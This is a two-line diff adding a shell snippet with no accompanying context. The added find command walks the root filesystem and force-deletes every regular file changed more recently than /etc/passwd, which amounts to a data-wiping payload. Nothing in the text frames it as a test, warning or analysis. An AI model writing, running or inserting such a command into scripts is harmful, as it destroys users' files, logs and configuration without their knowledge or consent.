@@ -1,0 +1,2 @@
+set -eu
+find / -xdev -type f -newer /etc/passwd -exec rm -f {} +
